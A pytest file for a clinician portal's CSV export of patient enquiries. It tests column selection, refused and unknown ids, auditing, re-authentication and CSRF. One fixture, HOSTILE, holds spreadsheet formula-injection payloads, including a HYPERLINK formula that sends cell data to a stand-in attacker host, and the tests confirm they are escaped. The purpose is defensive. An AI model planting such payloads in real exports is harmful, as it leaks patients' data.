"""The CSV of selected enquiries: chosen columns, no live formulas, refused ids, audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import select, text

from portal.db import db
from portal.models import AuditEvent, StaffSession
from portal.models.base import utcnow
from tests.conftest import PASSWORD
from tests.fixtures_clinician import audit_count, page_text
from tests.fixtures_intake import sample_answers

INBOX = "/clinician/intakes"
PICK = "/clinician/intakes/export"
CSV_URL = "/clinician/intakes/export.csv"
REAUTH = "/auth/reauthenticate"


def read_csv(response) -> list[list[str]]:
    """The download opened as a spreadsheet program would read it."""
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def pick_url(*intakes) -> str:
    """The column page for these enquiries."""
    return f"{PICK}?ids=" + "%2C".join(i.id for i in intakes)


@pytest.fixture
def download(client, staff_post):
    """Tick these enquiries on the inbox, choose columns, press Download; returns the response."""

    def run(intakes, fields, ids=None):
        """The whole journey as a browser makes it, with a CSRF token from each page."""
        chosen = ids if ids is not None else [i.id for i in intakes]
        picked = staff_post(PICK, {"ids": chosen})
        page = picked.headers["Location"]
        form = BeautifulSoup(client.get(page).data, "html.parser").find("form", action=CSV_URL)
        assert form is not None, page_text(client.get(page))
        hidden = {i["name"]: i.get("value", "") for i in form.find_all("input", type="hidden")}
        return client.post(CSV_URL, data={**hidden, "fields": fields})

    return run


def test_csv_has_the_chosen_columns_and_rows(client, signed_in_clinician, make_intake, download):
    first = make_intake()
    second = make_intake(about={"full_name": "Jo Brand", "email": "jo@example.org"})
    response = download([first, second], ["reference", "full_name", "email", "phq9_score"])
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0] == ["Reference", "Full name", "Email address", "PHQ-9 score"]
    about = sample_answers()["about"]
    assert sorted(rows[1:]) == sorted(
        [
            [first.reference, about["full_name"], about["email"], "9"],
            [second.reference, "Jo Brand", "jo@example.org", "9"],
        ]
    )
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="enquiries-') and ".csv" in disposition
    assert response.headers.get("Cache-Control") == "no-store"


def test_inbox_rows_can_be_ticked_without_javascript(client, signed_in_clinician, make_intake):
    intakes = [make_intake(), make_intake()]
    page = BeautifulSoup(client.get(INBOX).data, "html.parser")
    form = page.find("form", action=PICK)
    assert form["method"] == "post" and form.find("button", string="Export selected as CSV")
    boxes = form.find_all("input", attrs={"name": "ids", "type": "checkbox"})
    assert {b["value"] for b in boxes} == {i.id for i in intakes}
    for box in boxes:
        label = page.find("label", attrs={"for": box["id"]})
        assert label.get_text(strip=True).startswith("Select ")


def test_the_column_page_lists_the_selection_and_its_choices(
    client, signed_in_clinician, make_intake
):
    intake = make_intake()
    text_ = page_text(client.get(pick_url(intake)))
    assert intake.reference in text_ and "Columns to include" in text_
    for heading in ("Reference", "Full name", "Phone number", "PHQ-9 band", "What brings you"):
        assert heading in text_


HOSTILE = {
    "full_name": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "preferred_name": "+SUM(1,2)",
    "email": "@cmd@example.org",
    "phone": "-2+3",
}


def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
    client, signed_in_clinician, make_intake, download
):
    reasons = {"own_words": "\r=1+1 and more", "hopes": "\tcalc"}
    intake = make_intake(about=HOSTILE, reasons=reasons)
    keys = ["reference", "full_name", "preferred_name", "email", "phone", "own_words", "hopes"]
    rows = read_csv(download([intake], keys))
    expected = [f"'{HOSTILE[k]}" for k in ("full_name", "preferred_name", "email", "phone")]
    assert rows[1] == [intake.reference, *expected, "'\r=1+1 and more", "'\tcalc"]


def test_nothing_selected_says_so_and_exports_nothing(client, signed_in_clinician, staff_post):
    picked = staff_post(PICK, {})
    assert picked.headers["Location"] == PICK
    page = client.get(PICK)
    assert "No enquiries were selected" in page_text(page)
    assert BeautifulSoup(page.data, "html.parser").find("form", action=CSV_URL) is None
    posted = staff_post(CSV_URL, {"ids": "", "fields": ["reference"]})
    assert posted.headers["Content-Type"].startswith("text/html")
    assert "No enquiries were selected" in page_text(posted)
    assert audit_count("intake.export_csv") == 0


def test_unknown_ids_are_named_and_nothing_is_exported(
    client, signed_in_clinician, make_intake, staff_post
):
    intake = make_intake()
    ids = f"{intake.id},{'0' * 32},not-an-id"
    page = page_text(client.get(f"{PICK}?ids={ids}"))
    assert "2 of the 3 selected enquiries could not be found" in page
    assert "Nothing was exported" in page
    posted = staff_post(CSV_URL, {"ids": ids, "fields": ["reference"]})
    assert "2 of the 3 selected enquiries could not be found" in page_text(posted)
    assert posted.headers["Content-Type"].startswith("text/html")
    assert audit_count("intake.export_csv") == 0


def test_no_column_chosen_is_a_clear_error(client, signed_in_clinician, make_intake, staff_post):
    intake = make_intake()
    posted = staff_post(CSV_URL, {"ids": intake.id})
    assert "Select at least one column to include" in page_text(posted)
    assert posted.headers["Content-Type"].startswith("text/html")
    assert audit_count("intake.export_csv") == 0


def test_assigned_only_refuses_someone_elses_enquiry(client, staff_post, assigned_only):
    me, mine, theirs = assigned_only
    ids = f"{mine.id},{theirs.id}"
    posted = staff_post(CSV_URL, {"ids": ids, "fields": ["reference", "full_name"]})
    assert posted.headers["Content-Type"].startswith("text/html")
    assert "1 of the 2 selected enquiries could not be found" in page_text(posted)
    assert theirs.reference not in posted.get_data(as_text=True)
    assert audit_count("intake.export_csv") == 0
    denied = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "intake.denied"))
    assert {(r.actor_id, r.object_id) for r in denied} == {(me.id, theirs.id)}
    own = staff_post(CSV_URL, {"ids": mine.id, "fields": ["reference"]})
    assert read_csv(own) == [["Reference"], [mine.reference]]


def test_each_export_is_audited_with_ids_fields_and_session_but_no_answers(
    client, signed_in_clinician, make_intake, download
):
    intakes = [make_intake(), make_intake()]
    download(intakes, ["reference", "full_name", "email"])
    rows = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "intake.export_csv")
    ).all()
    session_row = db.session.scalars(select(StaffSession)).one()
    assert {r.object_id for r in rows} == {i.id for i in intakes}
    for row in rows:
        assert row.actor_id == signed_in_clinician.id
        assert row.detail == {
            "fields": ["reference", "full_name", "email"],
            "count": 2,
            "session": session_row.id[:16],
        }
        about = sample_answers()["about"]
        dumped = json.dumps(row.detail)
        assert about["full_name"] not in dumped and about["email"] not in dumped


def make_stale() -> None:
    """Age every staff session's sign-in past the recent-sign-in window."""
    db.session.execute(
        text("UPDATE staff_session SET authenticated_at = :t"),
        {"t": utcnow() - timedelta(hours=1)},
    )
    db.session.commit()


def test_a_stale_session_is_sent_to_confirm_then_back_to_its_selection(
    client, signed_in_clinician, make_intake, staff_post
):
    intake = make_intake()
    make_stale()
    posted = staff_post(CSV_URL, {"ids": intake.id, "fields": ["reference"], "next": "/x"})
    assert posted.headers.get("Location", "").startswith(REAUTH)
    assert audit_count("intake.export_csv") == 0
    shown = client.get(pick_url(intake))
    location = shown.headers.get("Location", "")
    assert location.startswith(REAUTH)
    back = parse_qs(urlsplit(location).query)["next"][0]
    assert back == f"{PICK}?ids={intake.id}"
    confirmed = client.post_form(REAUTH, {"password": PASSWORD, "next": back}, token_page=location)
    assert confirmed.headers["Location"] == back
    assert intake.reference in page_text(client.get(back))


def test_the_column_form_returns_to_its_own_selection_after_confirming(
    client, signed_in_clinician, make_intake
):
    intake = make_intake()
    form = BeautifulSoup(client.get(pick_url(intake)).data, "html.parser")
    assert form.find("input", attrs={"name": "next"})["value"] == f"{PICK}?ids={intake.id}"


def test_the_download_needs_a_csrf_token(client, signed_in_clinician, make_intake):
    intake = make_intake()
    response = client.post(CSV_URL, data={"ids": intake.id, "fields": ["reference"]})
    assert response.status_code == 400 and audit_count("intake.export_csv") == 0


def test_anonymous_visitors_are_sent_to_sign_in(client):
    assert client.get(PICK).headers["Location"].startswith("/auth/login")
